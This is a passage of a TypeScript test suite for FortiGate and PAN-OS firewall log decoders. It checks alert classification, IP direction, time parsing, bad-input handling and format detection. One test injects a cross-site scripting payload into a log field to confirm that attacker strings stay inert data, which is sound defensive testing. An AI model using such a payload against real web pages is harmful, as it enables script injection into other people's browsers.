    [base, { ...CTX, zone: '+09:30' }, '2024-05-01T10:00:00.000Z'],
  ];
  for (const [line, ctx, want] of cases) assert.equal(decodeWith(fortigate, line, ctx)['@timestamp'], want, line.slice(0, 160));
});

test('fortigate alert rules per UTM kind (documented in docs/formats.md)', () => {
  const anomaly = decodeWith(fortigate, FGT_ANOMALY);
  assert.equal(anomaly.crosswatch.role, 'network_alert');
  assert.equal(anomaly.source?.ip, '81.2.69.193');
  assert.equal(anomaly.rule?.name, 'tcp_syn_flood');
  assert.deepEqual(anomaly.event.type, ['denied']);

  const virus = decodeWith(fortigate, FGT_VIRUS);
  assert.equal(virus.crosswatch.role, 'network_alert');
  assert.deepEqual(virus.event.category, ['network', 'malware']);
  assert.equal(virus.source?.ip, '45.33.32.156', 'direction incoming: the server sent the file');
  assert.equal(virus.destination?.ip, '10.1.2.3');
  assert.deepEqual(virus.rule, { name: 'EICAR_TEST_FILE', id: '2172', category: 'av-engine' });
  assert.equal(virus.event.severity, 1, 'no IPS severity: crlevel critical');
  assert.equal(decodeWith(fortigate, FGT_VIRUS_ANALYTICS).crosswatch.role, 'other');

  const phish = decodeWith(fortigate, FGT_WEB_PHISH);
  assert.equal(phish.crosswatch.role, 'network_alert');
  assert.equal(phish.source?.ip, '91.198.174.192', 'web filter: the site is the threat side');
  assert.deepEqual(phish.rule, { name: 'Phishing', id: '61', category: 'Phishing' });
  assert.equal(phish.event.action, 'ftgd_blk');
  assert.equal(decodeWith(fortigate, FGT_WEB_OK).crosswatch.role, 'other');
  const blockedPolicy = FGT_WEB_OK.replace('action="passthrough"', 'action="blocked"');
  assert.equal(decodeWith(fortigate, blockedPolicy).crosswatch.role, 'network_alert');

  const botnet = decodeWith(fortigate, FGT_APP_BOTNET);
  assert.equal(botnet.crosswatch.role, 'network_alert');
  assert.equal(botnet.source?.ip, '185.100.87.41');
  assert.deepEqual(botnet.rule, { name: 'Emotet.Botnet', id: '107347980', category: 'Botnet' });
  assert.equal(decodeWith(fortigate, FGT_APP_OK).crosswatch.role, 'other');
  assert.equal(decodeWith(fortigate, FGT_APP_OK.replace('apprisk="medium"', 'apprisk="critical"')).crosswatch.role, 'network_alert');

  const traffic = decodeWith(fortigate, FGT_TRAFFIC);
  assert.equal(traffic.crosswatch.role, 'other');
  assert.equal(traffic.event.kind, 'event');
  assert.equal(traffic.event.action, 'close');
  assert.deepEqual(traffic.event.type, ['allowed', 'connection']);
  assert.equal(traffic.source?.ip, '10.1.2.3');
  assert.equal(traffic.rule, undefined);
  assert.equal(traffic.event.severity, undefined);

  const ev = decodeWith(fortigate, FGT_EVENT);
  assert.equal(ev.crosswatch.role, 'other');
  assert.equal(ev.crosswatch.category, 'event');

  // FortiOS 5.x: the UTM kind as the type.
  const legacy = decodeWith(fortigate, FGT_IPS.replace('type="utm" subtype="ips"', 'type="ips" subtype="signature"'));
  assert.equal(legacy.crosswatch.role, 'network_alert');
  assert.equal(legacy.rule?.id, '51006');
});

test('fortigate IPS direction incoming: the server attacked the client', () => {
  const e = decodeWith(fortigate, FGT_IPS.replace('direction="outgoing"', 'direction="incoming"').replace('srcip=81.2.69.192', 'srcip=10.1.2.9').replace('dstip=10.1.2.3', 'dstip=81.2.69.196'));
  assert.deepEqual(e.source, { ip: '81.2.69.196', port: 443 });
  assert.deepEqual(e.destination, { ip: '10.1.2.9', port: 40000 });
});

test('fortigate IPv6', () => {
  const e = decodeWith(fortigate, FGT_IPS.replace('srcip=81.2.69.192', 'srcip=2A02:CF40:0:0:0:0:0:1').replace('dstip=10.1.2.3', 'dstip=2001:67c:1234::10'));
  assert.equal(e.source?.ip, '2a02:cf40::1');
  assert.equal(e.destination?.ip, '2001:67c:1234::10');
});

test('fortigate bad input: unbalanced quotes, missing/garbled times, unknown tz, huge fields and lines', () => {
  // Cut inside a quoted value.
  const cut = FGT_IPS.slice(0, FGT_IPS.indexOf('attack="') + 20);
  assert.match(rejected(fortigate, cut, 'invalid-field'), /unbalanced quote in the value of "attack"/);
  // Cut before any time field: no eventtime, no date/time.
  assert.equal(rejected(fortigate, 'devname="FGT-EDGE" devid="FG100FTK19000001" logid="0419016384" type="utm" subtype="ips" srcip=81.2.69.192', 'missing-time'), 'no eventtime and no date/time fields');
  assert.match(rejected(fortigate, FGT_IPS.replace('eventtime=1714557600123456789', 'eventtime=17145x'), 'invalid-time'), /eventtime is not an epoch number/);
  const noEt = FGT_IPS.replace(' eventtime=1714557600123456789', '');
  assert.match(rejected(fortigate, noEt.replace('tz="+0200"', 'tz="Mars/Olympus_Mons"'), 'invalid-time'), /tz is not a zone/);
  assert.match(rejected(fortigate, noEt.replace('time=12:00:00', 'time=12:0'), 'invalid-time'), /date\/time is not a time/);
  assert.match(rejected(fortigate, noEt.replace('date=2024-05-01', 'date=2024-02-31'), 'invalid-time'), /date\/time is not a time/);
  assert.match(rejected(fortigate, FGT_IPS.replace(' type="utm"', ''), 'invalid-field'), /without a type/);
  // Not an IP is no IP.
  const noIp = decodeWith(fortigate, FGT_IPS.replace('srcip=81.2.69.192', 'srcip=N/A'));
  assert.equal(noIp.source?.ip, undefined);
  assert.equal(noIp.crosswatch.role, 'network_alert');
  // Huge fields are bounded, huge lines rejected, attacker strings kept as data.
  const big = decodeWith(fortigate, FGT_IPS.replace('attack="Apache.Log4j.Error.Log.Remote.Code.Execution"', `attack="${'A'.repeat(5000)}"`));
  assert.equal(big.rule?.name?.length, MAX_FIELD_CHARS);
  rejected(fortigate, FGT_IPS.replace('msg="', `msg="${'x'.repeat(70_000)}`), 'record-too-large');
  const xss = decodeWith(fortigate, FGT_IPS.replace('attack="Apache.Log4j.Error.Log.Remote.Code.Execution"', 'attack="<img src=x onerror=\\"alert(1)\\">"'));
  assert.equal(xss.rule?.name, '<img src=x onerror="alert(1)">');
});

test('fortigate key=value parser: quotes, escapes, bare words, repeated keys', () => {
  const p = parseFortigateKv('a=1 b="two words" c="x=\\"y\\" \\\\" junk d= tz="+0100" tz="+0200"');
  assert.ok(p.ok);
  if (p.ok) {
    assert.equal(p.pairs.get('a'), '1');
    assert.equal(p.pairs.get('b'), 'two words');
    assert.equal(p.pairs.get('c'), 'x="y" \\');
    assert.equal(p.pairs.get('d'), '');
    assert.equal(p.pairs.get('tz'), '+0100');
    assert.equal(p.pairs.has('junk'), false);
  }
  assert.equal(parseFortigateKv('a="open').ok, false);
});

// --- Neither decoder takes the other formats' records ----------------------

const PANOS_SAMPLES = [VULN, `<14>May  1 12:00:01 PA-3220 ${TRAFFIC}`, SYSTEM];
const FORTIGATE_SAMPLES = [FGT_IPS, `<189>${FGT_ANOMALY}`, FGT_TRAFFIC];
const OTHER_TEXT = [
  'CEF:0|Palo Alto Networks|PAN-OS|10.2.4|spyware|THREAT|1|rt=May 01 2024 12:00:00 GMT deviceExternalId=013201001234 src=10.1.2.3 dst=185.220.101.5',
  '<14>May  1 12:00:01 PA-3220 CEF:0|Fortinet|Fortigate|v7.2.5|0419016384|utm:ips signature|4|deviceExternalId=FG100FTK19000001 src=81.2.69.192 dst=10.1.2.3',
  '05/01-12:00:00.123456  [**] [1:2010935:3] ET SCAN Suspicious inbound to MSSQL port 1433 [**] [Classification: Potentially Bad Traffic] [Priority: 2] {TCP} 81.2.69.192:51234 -> 10.0.0.5:1433',
  '<38>May  1 12:00:00 sshd[123]: Accepted password for root from 81.2.69.192 port 5555 ssh2',
  'LEEF:1.0|Microsoft|MSExchange|2013|15345|src=10.50.1.1\tdst=2.10.20.20',
  // Sophos XG: key=value, but not FortiOS (no logid / devid).
  '<30>device="SFW" date=2020-05-18 time=14:39:09 timezone="CEST" device_name="XG230" device_id=1234567890123456 log_id=063911517818 log_type="Event"',
];
const OTHER_JSON = [
  { timestamp: '2024-05-01T12:00:00.123456+0200', event_type: 'alert', src_ip: '81.2.69.192', alert: { signature: 'x' } },
  { time: '2024-05-01T12:00:00Z', category: 'SignInLogs', operationName: 'Sign-in activity', callerIpAddress: '81.2.69.192', properties: {} },
  { CreationTime: '2024-05-01T12:00:00', Operation: 'MailItemsAccessed', Workload: 'Exchange', ClientIPAddress: '81.2.69.192' },
  { '@timestamp': '2024-05-01T12:00:00Z', event: { kind: 'alert' }, source: { ip: '81.2.69.192' } },
];

test('accepts(): PAN-OS and FortiGate never take each other\'s lines, CEF, fast.log, other syslog or JSON records', () => {
  for (const l of PANOS_SAMPLES) {
    assert.equal(panosThreat.accepts(text(l)), true, l.slice(0, 60));
    assert.equal(fortigate.accepts(text(l)), false, l.slice(0, 60));
  }
  for (const l of FORTIGATE_SAMPLES) {
    assert.equal(fortigate.accepts(text(l)), true, l.slice(0, 60));
    assert.equal(panosThreat.accepts(text(l)), false, l.slice(0, 60));
  }
  for (const l of OTHER_TEXT) {
    assert.equal(panosThreat.accepts(text(l)), false, l.slice(0, 60));
    assert.equal(fortigate.accepts(text(l)), false, l.slice(0, 60));
  }
  for (const o of OTHER_JSON) {
    assert.equal(panosThreat.accepts(jsonRecord(o)), false);
    assert.equal(fortigate.accepts(jsonRecord(o)), false);
  }
  const csv: RawRecord = { kind: 'csv', value: { Type: 'THREAT', 'Source address': '81.2.69.192' }, origin: { source: 't', line: 2 } };
  assert.equal(panosThreat.accepts(csv), false);
  assert.equal(fortigate.accepts(csv), false);
  // Cheap and total: odd input never throws.
  for (const l of ['', ',', '"', '<999>', 'a='.repeat(10_000), '1,2024/05/01 12:00:01,', '\u0000\uffff']) {
    assert.doesNotThrow(() => panosThreat.accepts(text(l)));
    assert.doesNotThrow(() => fortigate.accepts(text(l)));
    assert.doesNotThrow(() => panosThreat.decode(text(l), CTX));
    assert.doesNotThrow(() => fortigate.decode(text(l), CTX));
  }
});

test('cues explain what accepts() checks', () => {
  for (const [d, yes, no] of [[panosThreat, VULN, FGT_IPS], [fortigate, FGT_IPS, VULN]] as const) {
    assert.ok(d.cues.length >= 2);
    assert.ok(d.cues.every((c) => c.test(text(yes))), `${d.name}: all cues hold for its own line`);
    assert.ok(!d.cues.every((c) => c.test(text(no))), `${d.name}: some cue fails for the other's line`);
  }
});
